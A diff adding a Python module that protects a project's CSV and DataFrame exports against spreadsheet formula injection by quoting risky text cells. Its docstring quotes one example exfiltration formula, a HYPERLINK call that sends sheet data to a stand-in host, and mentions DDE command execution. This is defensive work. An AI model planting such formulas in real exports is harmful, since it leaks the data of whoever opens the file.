@@ -1,0 +1,89 @@
+"""Cells of the CSV files Concord writes, made safe to open in a spreadsheet.
+
+A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with
+`=`, `+`, `-` or `@` as a formula, and a leading tab or carriage return can
+hide such a start from a reader; a formula can leak the sheet's data to a
+remote server (`=HYPERLINK("http://evil.example/?"&A1, "x")`) or start
+commands (DDE). Crowd workers and uploaded files fill many of these cells
+(comments, Prolific ids, question and answer texts, system and evaluator
+names), so every export goes through this module.
+
+The rule (OWASP, "CSV Injection"): a *text* cell whose first character is one
+of `= + - @`, tab or carriage return gets a single quote in front (`'=1+2`),
+which spreadsheets show as text and most hide. Only text changes: numbers
+(`int`, `float`, `Decimal`; `-0.5` stays the number -0.5 for the analysis),
+booleans, dates and empty cells are written as they are. A text that happens
+to look like a number (`"-2"`) is text from someone and is prefixed too. The
+header row (column names can be rater ids or evaluator names) follows the
+same rule.
+
+No Django and no pandas import at module level: config is imported by every
+process, and only the report's exports hand a DataFrame in.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """The value, with a single quote in front if it is text that a spreadsheet
+    would read as a formula; anything that is not text unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
+    """A CSV file (header, then one line per row, cells in `columns` order; a
+    missing key is an empty cell, extra keys are left out) with every header
+    and cell neutralised."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow([neutralise(column) for column in columns])
+    for row in rows:
+        writer.writerow([neutralise(row.get(column, "")) for column in columns])
+    return out.getvalue()
+
+
+def frame_csv(frame) -> str:
+    """A pandas DataFrame as a CSV file like `csv_text`'s: neutralised, no index,
+    and CRLF line ends (RFC 4180, as the csv module writes), so that a text
+    holding a bare carriage return is quoted rather than read as a line end."""
+    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n")
+
+
+def neutralise_frame(frame):
+    """A copy of a pandas DataFrame with its column names and its text cells
+    neutralised, for `to_csv`. Numeric, boolean and date columns are not
+    touched (their dtype stays numeric); a categorical column has its
+    categories mapped, not its rows."""
+    # a shallow copy: columns that change are replaced in it, never written into
+    out = frame.copy(deep=False)
+    out.columns = [neutralise(name) for name in frame.columns]
+    for position, dtype in enumerate(out.dtypes):
+        if dtype.kind in "biufcmM":  # numbers, booleans, dates and durations
+            continue
+        column = out.iloc[:, position]
+        if dtype.name == "category":
+            out.isetitem(position, column.map(neutralise))
+            continue
+        # Text columns hold few distinct values (names, ids) over many rows: look
+        # at each value once and rewrite only the cells that change (a 10^6-row
+        # column in ~0.06 s when none does, not the ~0.7 s of a call per cell).
+        try:
+            changed = {v: neutralise(v) for v in column.unique() if neutralise(v) is not v}
+        except TypeError:  # unhashable cells (lists): one call per cell
+            out.isetitem(position, column.map(neutralise))
+            continue
+        if changed:
+            hit = column.isin(list(changed))
+            column = column.copy()
+            column[hit] = column[hit].map(changed)
+            out.isetitem(position, column)
+    return out
